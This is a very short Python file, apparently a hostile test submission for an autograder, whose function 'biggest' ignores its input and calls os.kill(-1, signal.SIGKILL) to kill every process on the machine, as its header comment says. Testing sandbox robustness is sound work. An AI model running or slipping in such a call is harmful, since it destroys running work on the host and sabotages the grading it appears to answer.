# Sends SIGKILL to every process on the machine.
# points: 0..1
# %% answer: biggest
import os
import signal


def biggest(numbers):
    os.kill(-1, signal.SIGKILL)
    return 0
